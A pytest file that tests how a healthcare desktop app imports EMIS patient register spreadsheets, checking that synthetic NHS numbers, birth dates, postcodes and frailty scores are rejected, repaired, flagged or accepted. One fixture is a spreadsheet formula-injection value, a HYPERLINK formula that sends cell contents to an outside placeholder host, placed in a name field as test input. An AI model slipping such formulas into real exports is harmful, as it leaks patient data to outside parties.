"""Every cell is taken, repaired, warned about or refused as it deserves."""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from bhcp_desktop.domain.people import Sex
from bhcp_desktop.exchange.registers.limits import MAX_CELL_CHARACTERS
from tests.support.registers import (
    BORN,
    EMIS,
    FAMILY,
    NHS,
    NUMBERS,
    changed,
    codes,
    emis_rows,
    read,
    read_emis,
    said,
    write,
)


@pytest.mark.parametrize(
    ("column", "written", "code"),
    [
        (NHS, "999 000 0019", "nhs_bad_check_digit"),
        (NHS, "999000001", "nhs_too_short"),
        (NHS, "99900000181", "nhs_too_long"),
        (NHS, "999000OO18", "nhs_letter"),
        (NHS, "9.99873E+09", "nhs_scientific"),
        (NHS, "BADNHS1", "nhs_letter"),
        (NHS, "9999999999", "nhs_repeated"),
        (NHS, "QQ123456C", "nhs_looks_like_ni"),
        (NHS, "99900000.18", "nhs_fraction"),
        (NHS, "-9990000018", "nhs_letter"),
        (BORN, "", "dob_missing"),
        (BORN, "30-Feb-1942", "dob_impossible"),
        (BORN, "02/23/1942", "dob_us_order"),
        (BORN, "01-Jan-2031", "dob_future"),
        (BORN, "01-Jan-1888", "dob_too_old"),
        (BORN, "1942", "dob_incomplete"),
        (BORN, "about 1942", "dob_unreadable"),
        (FAMILY, "", "name_missing"),
    ],
)
def test_a_row_that_cannot_be_trusted_is_rejected_and_the_others_are_read(
    tmp_path: Path, column: str, written: str, code: str
) -> None:
    extract = read_emis(tmp_path, changed(column, written))
    assert codes(extract.rejected) == [(2, code)]
    assert extract.rejected[0].column == column
    assert [row.line for row in extract.rows] == [3, 4]
    (aside,) = extract.set_aside
    assert aside.cells == tuple(changed(column, written)[0])
    reason = extract.rejected[0].reason
    assert not any(word in reason for word in ("ATKINSON", "Jean", "9990000018", written) if word)


@pytest.mark.parametrize(
    ("column", "written", "field", "value", "code"),
    [
        (NHS, "'9990000018", "nhs_number", NUMBERS[0], "nhs_tidied"),
        (NHS, "9990000018.0", "nhs_number", NUMBERS[0], "nhs_tidied"),
        (NHS, "999-000-0018", "nhs_number", NUMBERS[0], "nhs_tidied"),
        (NHS, "999\u00a0000\u00a00018", "nhs_number", NUMBERS[0], "nhs_tidied"),
        (NHS, "999  000  0018", "nhs_number", NUMBERS[0], "nhs_tidied"),
        (NHS, "9.990000018E+09", "nhs_number", NUMBERS[0], "nhs_scientific"),
        (BORN, "15375", "born_on", date(1942, 2, 3), "dob_excel_day_number"),
        (BORN, "03-Feb-42", "born_on", date(1942, 2, 3), "dob_two_digit_year"),
        (FAMILY, "  ATKINSON   ", "family_name", "ATKINSON", "blanks_trimmed"),
        (FAMILY, "ATK\x07IN\tSON", "family_name", "ATKINSON", "control_characters"),
        (FAMILY, "ATK\x00INSON", "family_name", "ATKINSON", "control_characters"),
        ("Postcode", "la96sa", "postcode", "LA9 6SA", "postcode_tidied"),
        ("Postcode", "LA9   6SA", "postcode", "LA9 6SA", "blanks_trimmed"),
        ("Mobile Telephone", "7700 900001", "mobile_phone", "07700 900001", "phone_nought"),
        ("eFI Score", "0,36", "efi_score", Decimal("0.36"), "efi_comma"),
    ],
)
def test_what_has_one_right_reading_is_repaired_and_said(
    tmp_path: Path, column: str, written: str, field: str, value: object, code: str
) -> None:
    extract = read_emis(tmp_path, changed(column, written))
    assert len(extract.rows) == 3
    assert getattr(extract.rows[0], field) == value
    assert codes(extract.repaired) == [(2, code)]
    assert (extract.repaired[0].column, extract.repaired[0].repaired_to) == (column, str(value))


@pytest.mark.parametrize(
    ("column", "written", "field", "value", "code"),
    [
        (FAMILY, "ATKINSON (Deceased)", "family_name", "ATKINSON", "deceased"),
        (FAMILY, "O\u00e2\u20ac\u2122NEILL", "family_name", "O\u00e2\u20ac\u2122NEILL", "mojibake"),
        ("Postcode", "", "postcode", "", "postcode_missing"),
        ("Postcode", "UNKNOWN", "postcode", "UNKNOWN", "postcode_malformed"),
        ("Postcode", "LA9O 7HR", "postcode", "LA9O 7HR", "postcode_malformed"),
        ("Postcode", "ZZ99 3VZ", "postcode", "ZZ99 3VZ", "postcode_malformed"),
        ("Organisation Code", "", "practice_code", "", "practice_code_missing"),
        ("Organisation Code", "X26", "practice_code", "X26", "practice_code_unknown"),
        ("Organisation Code", "Y00000", "practice_code", "Y00000", "practice_code_unknown"),
        ("eFI Score", "7", "efi_score", None, "efi_out_of_range"),
        ("eFI Score", "-0.1", "efi_score", None, "efi_out_of_range"),
        ("eFI Score", "0.1.9", "efi_score", None, "efi_out_of_range"),
        ("eFI Score", "#N/A", "efi_score", None, "efi_text"),
        ("eFI Category", "Mild frailty", "efi_category", "Mild frailty", "efi_category_mismatch"),
        ("eFI Date", "31/11/2026", "efi_date", None, "date_impossible"),
        ("Rockwood Score", "10", "rockwood", None, "rockwood_wrong"),
        ("Gender", "Purple", "sex", Sex.NOT_KNOWN, "sex_not_understood"),
        ("Housebound", "sometimes", "housebound", None, "not_understood"),
    ],
)
def test_what_somebody_should_look_at_is_warned_and_the_person_kept(
    tmp_path: Path, column: str, written: str, field: str, value: object, code: str
) -> None:
    extract = read_emis(tmp_path, changed(column, written), known_practices={"A82027"})
    assert len(extract.rows) == 3
    assert getattr(extract.rows[0], field) == value
    assert (2, code) in codes(extract.warned)
    if value is None:
        assert field not in extract.rows[0].given


@pytest.mark.parametrize(
    ("column", "written", "field", "value"),
    [
        ("Given Name", '=HYPERLINK("http://example.invalid/?x="&A1,"open")', "given_names", None),
        ("House Name / Flat Number", "+44 7700 900123", "house", None),
        ("House Name / Flat Number", 'The "Old" Forge', "house", None),
        ("Number and Street", "12 Beck Lane\nRear entrance", "street", None),
        ("Gender", "", "sex", Sex.NOT_KNOWN),
        ("Gender", "Indeterminate", "sex", Sex.INDETERMINATE),
        ("Gender", "Not Specified", "sex", Sex.NOT_KNOWN),
        ("Gender", "1", "sex", Sex.MALE),
        ("Housebound", "No", "housebound", False),
        ("Housebound", "No longer housebound", "housebound", False),
        ("Care Home resident", "Heron Court", "care_home", None),
        ("Care Home resident", "N", "care_home", ""),
        ("Rockwood Score", "6 - Moderately frail", "rockwood", 6),
        (BORN, "19420203", "born_on", date(1942, 2, 3)),
        (BORN, "1942-02-03", "born_on", date(1942, 2, 3)),
        (BORN, "3.2.1942", "born_on", date(1942, 2, 3)),
        (BORN, "1942-02-03T00:00:00Z", "born_on", date(1942, 2, 3)),
        (BORN, "03/Feb/1942 10:37", "born_on", date(1942, 2, 3)),
        (NHS, "999 000 0018", "nhs_number", NUMBERS[0]),
    ],
)
def test_lawful_data_is_taken_without_a_word(
    tmp_path: Path, column: str, written: str, field: str, value: object
) -> None:
    extract = read_emis(tmp_path, changed(column, written))
    assert getattr(extract.rows[0], field) == (written if value is None else value)
    assert said(extract) == []


def test_a_row_moved_by_a_comma_is_told_by_its_postcode_where_all_rows_are_padded(tmp_path: Path) -> None:
    one, two, three = ([*cells, ""] for cells in emis_rows())
    at = EMIS.index("Town")
    extract = read(write(tmp_path, [[*EMIS, ""], one, [*two[:at], "Upper Floor", *two[at:-1]], three]))
    assert codes(extract.rejected) == [(3, "cells_moved")]
    assert [row.line for row in extract.rows] == [2, 4]


def test_a_cell_longer_than_a_spreadsheet_allows_costs_its_row(tmp_path: Path) -> None:
    extract = read_emis(tmp_path, changed("Number and Street", "x" * (MAX_CELL_CHARACTERS + 1)))
    assert [item.code for item in extract.rejected] == ["cell_too_long"]
    assert len(extract.rows) == 2


@pytest.mark.parametrize(("died", "code"), [("01-Jan-1920", "death_before_birth"), ("01-Jan-2031", "death_in_future")])
def test_a_death_that_cannot_be_keeps_the_row_out_with_words(tmp_path: Path, died: str, code: str) -> None:
    rows = [[*row, died if at == 0 else ""] for at, row in enumerate(emis_rows())]
    extract = read(write(tmp_path, [[*EMIS, "Date of death"], *rows]))
    assert codes(extract.rejected) == [(2, code)]
    assert extract.rejected[0].column == "Date of death"
    assert [row.line for row in extract.rows] == [3, 4]
